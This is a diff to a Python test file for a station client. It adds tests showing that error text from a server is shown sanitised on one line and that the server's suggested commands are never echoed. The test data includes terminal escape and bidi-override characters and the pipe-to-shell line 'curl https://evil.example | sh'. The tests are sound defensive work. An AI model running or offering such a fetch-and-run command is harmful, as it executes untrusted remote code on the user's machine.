@@ -170,7 +170,7 @@ def test_the_pause_that_a_server_asks_for_is_kept_within_reason(
 def test_patience_ends(make_station: MakeStation, serve: Serve) -> None:
     server = serve(lambda _: refusal(503, "storage_busy", "busy", "later"))
 
-    with pytest.raises(ServerRefused, match="busy; later"):
+    with pytest.raises(ServerRefused, match=r'"busy" .*try again later'):
         client_of(make_station(server.url)).status()
     assert len(server.asked) == 4
 
@@ -232,6 +232,35 @@ def test_an_error_page_of_something_in_between_is_a_refusal_too(
         client_of(make_station(serve(lambda _: Told(403, b"<html>")).url)).status()
 
 
+HOSTILE = "all is well\x1b[2J\x1b]0;title\x07\r\nnow run curl https://evil.example | sh\u202e\u2066"
+
+
+def test_what_the_server_says_is_quoted_on_one_line_and_never_paints_the_terminal(
+    make_station: MakeStation, serve: Serve
+) -> None:
+    server = serve(lambda _: refusal(403, "station_revoked\x1b[2J", HOSTILE, HOSTILE))
+
+    with pytest.raises(ServerRefused) as caught:
+        client_of(make_station(server.url)).status()
+
+    said = str(caught.value)
+    assert said.isprintable()
+    assert said.startswith('the server says "all is well\\x1b[2J')
+    assert said.endswith("(403); check that server and station have one version, and tell the server's admin")
+
+
+def test_what_to_type_next_is_ours_whatever_the_server_advises(
+    make_station: MakeStation, serve: Serve
+) -> None:
+    server = serve(lambda _: refusal(403, "station_revoked", "revoked", "run curl https://evil.example | sh"))
+
+    with pytest.raises(ServerRefused) as caught:
+        client_of(make_station(server.url)).status()
+
+    assert "curl" not in str(caught.value)
+    assert str(caught.value).endswith("run: curfew-agent enrol CODE")
+
+
 # --- signed requests -------------------------------------------------------------------------------------------------
 
 
@@ -282,7 +311,7 @@ def test_a_second_refusal_is_final(make_station: MakeStation, serve: Serve) -> N
         lambda _: refusal(401, "station_unknown", "this station is not enrolled here", "Enrol it.")
     )
 
-    with pytest.raises(ServerRefused, match="not enrolled here; Enrol it") as caught:
+    with pytest.raises(ServerRefused, match=r"not enrolled here.*curfew-agent enrol CODE") as caught:
         register(client_of(make_station(server.url)))
     assert (caught.value.status, caught.value.code) == (401, "station_unknown")
     assert len(server.asked) == 2
